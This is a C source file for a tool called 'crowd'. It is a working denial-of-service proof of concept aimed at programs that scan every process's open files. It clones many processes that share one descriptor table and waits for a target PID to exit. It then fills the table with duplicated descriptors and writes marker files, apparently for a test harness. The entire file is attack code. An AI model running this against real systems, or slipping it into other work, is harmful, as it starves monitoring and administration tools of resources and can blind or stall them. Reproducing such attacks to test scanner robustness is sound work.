/*
 * crowd PID DESCRIPTORS PROCESSES READY BEGUN: what any user can do against a program that looks at everybody's open files.
 * PROCESSES processes share one table of descriptors and one memory (clone(2), CLONE_FILES and CLONE_VM), which costs next to nothing.
 * Once process PID has ended, the table grows to DESCRIPTORS. Makes the file READY when it waits for that, and BEGUN when the table is full.
 */
#define _GNU_SOURCE
#include <err.h>
#include <fcntl.h>
#include <poll.h>
#include <sched.h>
#include <signal.h>
#include <stdlib.h>
#include <sys/prctl.h>
#include <sys/resource.h>
#include <sys/syscall.h>
#include <unistd.h>

#define STACK 4096

/* Nobody of the crowd outlives the one who has called it. */
static int stay(void *caller)
{
    prctl(PR_SET_PDEATHSIG, SIGKILL);
    while (!caller || getppid() == *(pid_t *)caller)
        pause();
    return 0;
}

static void mark(const char *path)
{
    int fd = open(path, O_CREAT | O_WRONLY | O_CLOEXEC, 0644);
    if (fd < 0)
        err(1, "%s", path);
    close(fd);
}

int main(int argc, char **argv)
{
    if (argc != 6)
        errx(2, "usage: crowd PID DESCRIPTORS PROCESSES READY BEGUN");
    int wanted = atoi(argv[2]), processes = atoi(argv[3]);

    struct rlimit limit;
    if (getrlimit(RLIMIT_NOFILE, &limit) < 0)
        err(1, "getrlimit");
    limit.rlim_cur = limit.rlim_max;
    if (setrlimit(RLIMIT_NOFILE, &limit) < 0 || limit.rlim_max <= (rlim_t)wanted)
        err(1, "%d descriptors", wanted);

    /* Anybody may wait for anybody's end. */
    int victim = (int)syscall(SYS_pidfd_open, atoi(argv[1]), 0);
    if (victim < 0)
        err(1, "process %s", argv[1]);

    char *stacks = malloc((size_t)processes * STACK);
    if (!stacks)
        err(1, "stacks");
    pid_t self = getpid();
    for (int i = 0; i < processes; i++)
        if (clone(stay, stacks + (size_t)(i + 1) * STACK, CLONE_FILES | CLONE_VM | SIGCHLD, &self) < 0)
            err(1, "process %d", i);

    int file = open("/dev/null", O_RDONLY);
    mark(argv[4]);
    struct pollfd end = { .fd = victim, .events = POLLIN };
    while (poll(&end, 1, -1) != 1)
        ;
    for (int i = 0; i < wanted; i++)
        if (dup(file) < 0)
            err(1, "descriptor %d", i);
    mark(argv[5]);
    return stay(NULL);
}
